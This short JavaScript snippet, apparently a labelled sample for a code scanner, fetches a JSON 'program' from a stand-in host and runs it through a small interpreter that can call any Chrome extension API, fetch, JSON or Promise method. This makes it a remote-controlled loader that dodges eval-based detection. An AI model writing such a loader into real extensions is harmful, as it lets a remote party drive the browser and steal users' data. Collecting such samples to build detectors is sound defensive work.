const T = { chrome, fetch, JSON, Promise };
function at(path) { return path.split('.').reduce((o, k) => o[k], T); }
async function run(prog) {
  let acc;
  for (const [op, ...args] of prog) {
    const parts = op.split('.'); const m = parts.pop();
    const o = at(parts.join('.'));
    // expect: named-by-data
    acc = await o[m].apply(o, args.map(a => a === '$' ? acc : a));
  }
  return acc;
}
fetch('https://cfg.ext-rules.example/prog').then(r => r.json()).then(run);
